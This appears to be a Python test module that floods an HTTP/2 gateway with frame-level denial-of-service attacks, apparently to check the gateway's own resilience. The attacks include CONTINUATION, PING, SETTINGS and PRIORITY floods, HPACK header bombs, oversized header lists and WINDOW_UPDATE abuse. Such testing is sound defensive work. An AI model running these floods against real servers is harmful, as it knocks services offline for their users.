"""Attackers without a key that send frames without end, each of which costs a little."""

from __future__ import annotations

import struct
from typing import Callable

from tests.gateway.attacks.attacking import Attack
from tests.gateway.attacks.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    LARGEST_WINDOW,
    PING,
    PRIORITY,
    WINDOW_UPDATE,
    Client,
    field,
    frame,
    integer,
    request,
    request_block,
    settings,
)

__all__ = [
    "continuations",
    "empty_data",
    "header_bombs",
    "header_lists",
    "pings",
    "priorities",
    "setting_changes",
    "table_sizes",
    "window_updates",
]

_ECHO = "/echo.Echo/Say"
_BATCH_BYTES = 32_768
_FRAME = 16_384
_USUAL_TABLE = 4096


def _flood(
    attack: Attack,
    begin: Callable[[Client], bytes],
    go_on: Callable[[Client], list[bytes]],
    *,
    reads: bool = True,
    window: int = LARGEST_WINDOW,
) -> None:
    """Connect, begin, and go on with a batch of frames, again and again."""
    attack.ready()
    while attack.going():
        client = attack.connect(reads=reads, window=window)
        if client is None:
            continue
        client.send(begin(client))
        while attack.going() and not client.is_over:
            frames = go_on(client)
            if client.send(b"".join(frames)):
                attack.count(len(frames))
                client.read()
        attack.finish(client)


def _again(frames: list[bytes]) -> Callable[[Client], list[bytes]]:
    """About so many of them as fill a batch, each time the same."""
    batch = frames * max(1, _BATCH_BYTES // sum(map(len, frames)))
    return lambda client: batch


def _nothing(client: Client) -> bytes:
    return b""


def continuations(attack: Attack, size: int) -> None:
    """Headers that go on in one frame after another."""
    one = field(b"x", bytes(100))
    piece = (one * (size // len(one) + 1))[: size // len(one) * len(one)]
    opening = frame(HEADERS, 0, 1, request_block(_ECHO))
    _flood(attack, lambda client: opening, _again([frame(CONTINUATION, 0, 1, piece)]))


def setting_changes(attack: Attack, streams: int) -> None:
    """SETTINGS that change the window of every open stream."""

    def begin(client: Client) -> bytes:
        return b"".join(request(client.new_stream(), request_block(_ECHO)) for _ in range(streams))

    _flood(attack, begin, _again([settings(s4=1000), settings(s4=2000)]))


def pings(attack: Attack, reads: bool) -> None:
    """PING; their answers are read, or not."""
    _flood(attack, _nothing, _again([frame(PING, 0, 0, b"attacker")]), reads=reads)


def empty_data(attack: Attack) -> None:
    """DATA with nothing in it, which flow control does not count."""

    def begin(client: Client) -> bytes:
        return request(1, request_block(_ECHO))

    _flood(attack, begin, _again([frame(DATA, 0, 1)]))


def priorities(attack: Attack) -> None:
    """PRIORITY, of streams that there are none of."""
    changes = [
        frame(PRIORITY, 0, stream, struct.pack(">IB", stream + 2, 7)) for stream in range(3, 999, 2)
    ]
    _flood(attack, _nothing, _again(changes))


def table_sizes(attack: Attack, changes: int) -> None:
    """Requests whose headers begin with many changes of the table's size."""
    sizes = integer(0, 5, 0x20) + integer(_USUAL_TABLE, 5, 0x20)
    _requests(attack, sizes * (changes // 2) + request_block("/nobody.Nowhere/Say"))


def header_bombs(attack: Attack, references: int) -> None:
    """Requests of a few KiB that stand for as many headers of 4,000 bytes."""
    large = field(b"x", bytes(4000), pattern=0x40)  # kept in the table

    def begin(client: Client) -> bytes:
        return request(client.new_stream(), request_block(_ECHO, large))

    block = request_block(_ECHO) + integer(62, 7, 0x80) * references

    def go_on(client: Client) -> list[bytes]:
        return [frame(HEADERS, END_HEADERS | END_STREAM, client.new_stream(), block)]

    _flood(attack, begin, go_on)


def header_lists(attack: Attack, size: int) -> None:
    """Requests with more metadata than is allowed."""
    one = field(b"x", b"y" * 100)
    _requests(attack, request_block(_ECHO) + one * (size // len(one)))


def _requests(attack: Attack, block: bytes) -> None:
    """Requests with such headers, on one stream after another."""
    pieces = [block[start : start + _FRAME] for start in range(0, len(block), _FRAME)]

    def go_on(client: Client) -> list[bytes]:
        stream = client.new_stream()
        frames = []
        for number, piece in enumerate(pieces):
            flags = END_HEADERS if number == len(pieces) - 1 else 0
            if number:
                frames.append(frame(CONTINUATION, flags, stream, piece))
            else:
                frames.append(frame(HEADERS, flags | END_STREAM, stream, piece))
        return [b"".join(frames)]

    _flood(attack, _nothing, go_on)


def window_updates(attack: Attack, increment: int) -> None:
    """WINDOW_UPDATE: by nothing and by too much, which are errors, or again and again by little."""

    def begin(client: Client) -> bytes:
        return request(1, request_block(_ECHO))

    update = struct.pack(">I", increment)
    frames = [frame(WINDOW_UPDATE, 0, 1, update), frame(WINDOW_UPDATE, 0, 0, update)]
    go_on = _again(frames) if increment == 1 else lambda client: frames
    _flood(attack, begin, go_on, window=1000)
